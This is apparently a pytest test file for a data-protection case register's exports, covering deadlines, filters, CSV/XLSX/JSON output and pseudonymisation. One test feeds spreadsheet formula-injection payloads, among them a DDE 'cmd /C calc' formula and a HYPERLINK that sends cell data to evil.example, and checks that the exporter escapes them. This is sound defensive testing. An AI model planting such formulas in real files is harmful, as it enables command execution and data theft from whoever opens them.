"""The register: rows, on-time logic, filters, CSV/XLSX/JSON, formula injection, pseudonyms,
progress and cancel."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dpo_desk.core.errors import InvalidInput, NotFound
from dpo_desk.core.model import CaseStatus, Channel
from dpo_desk.reports import (
    ExportCancelled,
    Pseudonymiser,
    build_register,
    export_register,
    timeliness,
)

from .conftest import TODAY, add_case, add_controller, answer


@pytest.fixture
def hand(cf):
    """Cases with known deadlines: KG access is due one week after receipt."""
    kg = add_controller(cf, "kg-co", "ОсОО «Тест»", ("KG",))
    fr = add_controller(cf, "fr-co", "Société Test", ("FR",))
    ids = {}

    def case(label, ctl, received, name, email=""):
        ids[label] = add_case(cf, ctl, name=name, received=received, email=email).id

    case("on_due", kg, date(2026, 1, 12), "Айбек Токтогулов", "aibek@example.kg")
    case("late", kg, date(2026, 1, 12), "Чолпон Үсөнова", "cholpon@example.kg")
    case("overdue", kg, date(2026, 1, 5), "Нурлан Асанов")
    case("open", kg, date(2026, 2, 27), "Бакыт Жумабеков")
    case("withdrawn", kg, date(2026, 1, 20), "Жыпар Өмүрбекова")
    case("early", kg, date(2026, 2, 2), "Sarah Collins", "sarah@example.org")
    case("fr", fr, date(2026, 2, 2), "Léa Moreau", "lea@example.fr")
    answer(cf, ids["on_due"], date(2026, 1, 19))
    answer(cf, ids["late"], date(2026, 1, 20))
    cf.cases.set_status(ids["overdue"], CaseStatus.IN_PROGRESS, on=date(2026, 1, 6))
    cf.cases.set_status(ids["withdrawn"], CaseStatus.WITHDRAWN, on=date(2026, 1, 22))
    answer(cf, ids["early"], date(2026, 2, 4))
    answer(cf, ids["fr"], date(2026, 3, 2))
    cf.cases.update(ids["late"], outcome="Copy of the data sent to Чолпон Үсөнова.")
    return ids


def by_ref(register):
    return {r.case_id: r for r in register.rows}


def test_rows_and_on_time_logic(cf, hand) -> None:
    register = build_register(cf, TODAY)
    rows = by_ref(register)
    assert len(rows) == 7
    expected = {
        "on_due": ("on_time", date(2026, 1, 19), 7),
        "late": ("late", date(2026, 1, 19), 8),
        "overdue": ("overdue", date(2026, 1, 12), None),
        "open": ("open", date(2026, 3, 6), None),
        "withdrawn": ("withdrawn", date(2026, 1, 27), None),
        "early": ("on_time", date(2026, 2, 9), 2),
        "fr": ("on_time", date(2026, 3, 2), 28),
    }
    for label, (state, due, days) in expected.items():
        row = rows[hand[label]]
        assert (row.timeliness, row.due, row.days_to_answer) == (state, due, days), label
    assert rows[hand["fr"]].jurisdiction == "FR" and rows[hand["on_due"]].jurisdiction == "KG"
    assert rows[hand["on_due"]].subject == "Айбек Токтогулов"
    assert rows[hand["on_due"]].contact == "aibek@example.kg"
    assert rows[hand["on_due"]].kinds == ("access",) and rows[hand["on_due"]].channel == "email"
    assert [r.received for r in register.rows] == sorted(r.received for r in register.rows)
    assert register.anchor is not None and cf.verify_audit(register.anchor).ok


def test_timeliness_rules() -> None:
    due = date(2026, 3, 10)
    assert timeliness("responded", due, date(2026, 3, 10), TODAY) == "on_time"
    assert timeliness("closed", due, date(2026, 3, 11), TODAY) == "late"
    assert timeliness("in_progress", due, None, date(2026, 3, 10)) == "open"  # due today
    assert timeliness("in_progress", due, None, date(2026, 3, 11)) == "overdue"
    assert timeliness("awaiting_identity", None, None, TODAY) == "open"
    assert timeliness("withdrawn", due, None, TODAY) == "withdrawn"
    assert timeliness("closed", due, None, TODAY) == "no_answer"
    assert timeliness("responded", None, date(2026, 3, 1), TODAY) == "answered"


def test_period_and_controller_filters(cf, hand) -> None:
    jan = build_register(cf, TODAY, received_from=date(2026, 1, 1), received_to=date(2026, 1, 31))
    assert {r.case_id for r in jan.rows} == {
        hand["on_due"],
        hand["late"],
        hand["overdue"],
        hand["withdrawn"],
    }
    fr = build_register(cf, TODAY, controllers=["fr-co"])
    assert [r.case_id for r in fr.rows] == [hand["fr"]]
    both = build_register(cf, TODAY, controllers=["fr-co", "kg-co"], received_from=date(2026, 2, 1))
    assert {r.case_id for r in both.rows} == {hand["fr"], hand["early"], hand["open"]}
    assert both.to_dict()["filters"] == {
        "received_from": "2026-02-01",
        "received_to": None,
        "controllers": ["fr-co", "kg-co"],
    }
    with pytest.raises(NotFound, match="known: fr-co, kg-co"):
        build_register(cf, TODAY, controllers=["nope"])
    with pytest.raises(InvalidInput, match="starts"):
        build_register(cf, TODAY, received_from=date(2026, 2, 1), received_to=date(2026, 1, 1))


def test_csv_is_utf8_with_bom_and_reads_back(cf, hand, tmp_path: Path) -> None:
    out = tmp_path / "register.csv"
    result = export_register(cf, out, TODAY)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert result.cases == len(rows) == 7
    late = next(r for r in rows if r["Data subject"] == "Чолпон Үсөнова")
    assert late["On time"] == "late" and late["Governing due date"] == "2026-01-19"
    assert late["Answered on"] == "2026-01-20" and late["Days to answer"] == "8"
    assert late["Controller"] == "ОсОО «Тест»" and late["Governing regime"] == "KG"
    overdue = next(r for r in rows if r["Data subject"] == "Нурлан Асанов")
    assert overdue["On time"] == "overdue" and overdue["Answered on"] == ""


def test_formula_injection_is_escaped_in_csv_and_xlsx(cf, tmp_path: Path) -> None:
    ctl = add_controller(cf, "kg-co", "=cmd|' /C calc'!A0", ("KG",))
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "email": "@SUM(1+1)@example.org",
        "outcome": "+SUM(1,2)",
    }
    case = add_case(
        cf, ctl, name=hostile["name"], email=hostile["email"], received=date(2026, 2, 2)
    )
    cf.cases.update(case.id, outcome=hostile["outcome"])
    second = add_case(
        cf, ctl, name="-2+3", phone="=1+1", received=date(2026, 2, 3), channel=Channel.POST
    )
    assert second.id

    export_register(cf, tmp_path / "r.csv", TODAY)
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    for value in (
        hostile["name"],
        hostile["email"],
        hostile["outcome"],
        "-2+3",
        "=1+1",
        "=cmd|' /C calc'!A0",
    ):
        assert "'" + value in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]

    export_register(cf, tmp_path / "r.xlsx", TODAY)
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets)
    ws = load_workbook(tmp_path / "r.xlsx")["Register"]
    formula_like = [
        c
        for row in ws.iter_rows(min_row=2)
        for c in row
        if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t")
    ]
    assert {c.value for c in formula_like} >= {
        hostile["name"],
        hostile["email"],
        hostile["outcome"],
        "-2+3",
    }
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like)


def test_xlsx_has_typed_cells_and_an_about_sheet(cf, hand, tmp_path: Path) -> None:
    result = export_register(cf, tmp_path / "r.xlsx", TODAY, controllers=["kg-co"])
    wb = load_workbook(tmp_path / "r.xlsx")
    ws = wb["Register"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["Reference", "Received", "Controller"]
    assert ws.max_row == 7  # header + six KG cases
    received = ws.cell(row=2, column=2)
    assert received.is_date and received.value.date() == date(2026, 1, 5)
    assert ws.freeze_panes == "A2"
    about = {r[0].value: r[1].value for r in wb["About"].iter_rows()}
    assert about["Audit anchor"] == result.anchor.text()
    assert about["Controllers"] == "kg-co" and about["Cases"] == 6


def test_json_register(cf, hand, tmp_path: Path) -> None:
    result = export_register(cf, tmp_path / "r.json", TODAY, received_to=date(2026, 1, 31))
    data = json.loads((tmp_path / "r.json").read_text("utf-8"))
    assert data["cases"] == 4 and data["audit_anchor"] == result.anchor.text()
    late = next(r for r in data["rows"] if r["case_id"] == hand["late"])
    assert late == {
        "case_id": hand["late"],
        "reference": late["reference"],
        "received": "2026-01-12",
        "controller": "kg-co",
        "controller_name": "ОсОО «Тест»",
        "subject": "Чолпон Үсөнова",
        "contact": "cholpon@example.kg",
        "kinds": ["access"],
        "channel": "email",
        "jurisdiction": "KG",
        "due": "2026-01-19",
        "responded_on": "2026-01-20",
        "closed_on": None,
        "status": "responded",
        "timeliness": "late",
        "days_to_answer": 8,
        "outcome": "Copy of the data sent to Чолпон Үсөнова.",
    }


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "json"])
def test_pseudonymised_register_holds_no_name_or_contact(
    cf, hand, tmp_path: Path, suffix: str
) -> None:
    out = tmp_path / f"r.{suffix}"
    export_register(cf, out, TODAY, pseudonymise=True)
    raw = out.read_bytes()
    if suffix == "xlsx":
        with zipfile.ZipFile(out) as z:
            raw = b"".join(z.read(n) for n in z.namelist())
    secrets = [
        "Айбек",
        "Токтогулов",
        "Чолпон",
        "Үсөнова",
        "Нурлан",
        "Асанов",
        "Sarah",
        "Collins",
        "Léa Moreau",
        "aibek@example.kg",
        "cholpon",
        "sarah@example.org",
        "lea@example.fr",
    ]
    for secret in secrets:
        assert secret.encode("utf-8") not in raw, secret
    assert raw.count(b"Subject ") >= 7
    register = build_register(cf, TODAY, pseudonymise=True)
    names = [r.subject for r in register.rows]
    assert len(set(names)) == 7 and all(n.startswith("Subject ") and len(n) == 16 for n in names)
    assert all(r.contact == "" for r in register.rows)
    late = next(r for r in register.rows if r.case_id == hand["late"])
    assert late.outcome == f"Copy of the data sent to {late.subject}."


def test_pseudonyms_are_stable_within_an_export_and_unlinkable_across() -> None:
    first, second = Pseudonymiser(), Pseudonymiser()
    assert first.subject(42) == first.subject(42)
    assert first.subject(42) != first.subject(43)
    assert first.subject(42) != second.subject(42)
    keyed = Pseudonymiser(b"k" * 32)
    assert keyed.subject(7) == Pseudonymiser(b"k" * 32).subject(7)
    many = Pseudonymiser(b"k" * 32)
    assert len({many.subject(i) for i in range(5000)}) == 5000


def test_progress_is_reported_and_cancel_leaves_no_file(cf, hand, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    export_register(cf, tmp_path / "r.csv", TODAY, progress=lambda d, t: seen.append((d, t)))
    assert seen[0] == (0, 7) and seen[-1] == (7, 7)

    head = cf.head()
    calls = iter(range(100))
    out = tmp_path / "cancelled.xlsx"
    with pytest.raises(ExportCancelled, match="no file"):
        export_register(cf, out, TODAY, cancel=lambda: next(calls) >= 3)
    assert not out.exists() and not list(tmp_path.glob(".*.partial"))
    assert cf.head() == head  # no audit event for an export that did not happen


def test_unknown_extension_lists_the_valid_ones(cf, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match=r"\.csv, \.xlsx, \.json"):
        export_register(cf, tmp_path / "r.ods", TODAY)
    with pytest.raises(InvalidInput, match="no extension"):
        export_register(cf, tmp_path / "register", TODAY)


def test_redactor_matches_whole_words_in_any_case() -> None:
    from dpo_desk.core.model import DataSubject
    from dpo_desk.reports.common import Redactor, subject_terms

    subject = DataSubject(name="Гүлнәр Сейітқызы", email="gulnar.s@example.kz", phone="+7 701")
    assert "Гүлнәр" in subject_terms(subject) and "gulnar" in subject_terms(subject)
    red = Redactor.for_subject(subject, "Subject X")
    assert red.text("ГҮЛНӘР СЕЙІТҚЫЗЫ wrote from GULNAR.S@EXAMPLE.KZ") == (
        "Subject X wrote from Subject X"
    )
    assert red.text("Гүлнәрова is another person; call +7 701") == (
        "Гүлнәрова is another person; call Subject X"
    )
    assert red.value({"note": ["gulnar", 3, None]}) == {"note": ["Subject X", 3, None]}
    assert red.text("") == "" and red.text("nothing to hide") == "nothing to hide"
